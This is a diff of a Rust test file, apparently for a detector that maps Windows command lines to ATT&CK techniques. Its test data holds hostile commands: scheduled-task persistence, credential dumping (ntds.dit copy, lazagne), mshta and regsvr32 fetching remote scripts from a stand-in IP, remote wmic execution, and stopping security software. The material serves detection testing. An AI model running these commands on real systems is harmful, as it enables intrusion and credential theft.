@@ -222,7 +222,7 @@ fn hostile_input_never_fails_and_stays_bounded() {
 fn persistence_commands() {
     check(&[
         (r"schtasks /create /tn Upd /tr C:\ProgramData\upd.exe /sc onlogon /ru SYSTEM", &["T1053.005"], &[r"C:\ProgramData\upd.exe", "Upd"]),
-        (r"schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR ""C:\Windows\Temp\a.bat""", &["T1053.005"], &["WinUpdate"]),
+        (r#"schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR "C:\Windows\Temp\a.bat""#, &["T1053.005"], &["WinUpdate"]),
         (r"at \\10.1.1.5 22:00 C:\temp\x.exe", &["T1053.002"], &[]),
         (r#"sc create UpdSvc binPath= "C:\Users\Public\svc.exe" start= auto"#, &["T1543.003"], &[r"C:\Users\Public\svc.exe"]),
         (r#"sc.exe config wuauserv binPath= "cmd /c C:\temp\p.exe""#, &["T1543.003"], &[r"C:\temp\p.exe"]),
@@ -255,10 +255,10 @@ fn credential_access_commands() {
         (r"reg query HKLM /f password /t REG_SZ /s", &["T1552.002"], &[]),
         (r#"findstr /si password *.xml *.ini *.txt *.config"#, &["T1552.001"], &[]),
         (r"cmdkey /list", &["T1078", "T1555.004", "T1087"], &[]),
-        (r"vaultcmd /listcreds:""Windows Credentials"" /all", &["T1555.004"], &[]),
+        (r#"vaultcmd /listcreds:"Windows Credentials" /all"#, &["T1555.004"], &[]),
         (r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Users\Public\n.dit", &["T1003.003"], &[]),
         (r"lazagne.exe all", &["T1555"], &[]),
-        (r"sqldumper.exe 540 0 0x01100", &["T1003.001"], &[]),
+        (r"sqldumper.exe 540 0 0x01100", &["T1003.001", "T1003"], &[]),
     ]);
 }
 
@@ -294,7 +294,7 @@ fn defence_evasion_commands() {
 #[test]
 fn proxy_execution_and_download_commands() {
     check(&[
-        (r"mshta.exe vbscript:Execute(""CreateObject(""""WScript.Shell"""").Run """"calc"""""")(window.close)", &["T1218.005"], &[]),
+        (r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)"#, &["T1218.005"], &[]),
         (r"mshta https://198.51.100.9/run.hta", &["T1218.005"], &["https://198.51.100.9/run.hta"]),
         (r"regsvr32.exe /s /u /i:https://198.51.100.9/x.sct scrobj.dll", &["T1218.010"], &["https://198.51.100.9/x.sct"]),
         (r"rundll32.exe shell32.dll,Control_RunDLL C:\temp\x.cpl", &["T1218.011", "T1218.002"], &[]),
@@ -333,16 +333,16 @@ fn discovery_lateral_and_other_commands() {
         (r"net user /domain", &["T1087.002"], &[]),
         (r"net user svc_b Winter2024! /add /domain", &["T1136.002"], &[]),
         (r"net share", &["T1135"], &[]),
-        (r"net stop ""Sophos Agent""", &["T1489", "T1562.001"], &[]),
+        (r#"net stop "Sophos Agent""#, &["T1489", "T1562.001"], &[]),
         (r"nltest /dclist:corp.local", &["T1018"], &[]),
         (r"whoami /priv", &["T1033"], &[]),
         (r"quser", &["T1033"], &[]),
-        (r"arp -a", &["T1016"], &[]),
+        (r"arp -a", &["T1016", "T1018"], &[]),
         (r"route print", &["T1016"], &[]),
         (r"netstat -anob", &["T1049"], &[]),
         (r"tasklist /svc", &["T1007", "T1057"], &[]),
         (r"wmic process get name,processid", &["T1057"], &[]),
-        (r"wmic /node:10.0.0.7 /user:corp\adm process call create ""cmd /c C:\temp\x.exe""", &["T1047"], &["10.0.0.7"]),
+        (r#"wmic /node:10.0.0.7 /user:corp\adm process call create "cmd /c C:\temp\x.exe""#, &["T1047"], &["10.0.0.7"]),
         (r"systeminfo /s 10.0.0.7", &["T1082"], &[]),
         (r"dsquery computer -limit 0", &["T1018"], &[]),
         (r"AdFind.exe -f objectcategory=person", &["T1087.002"], &[]),
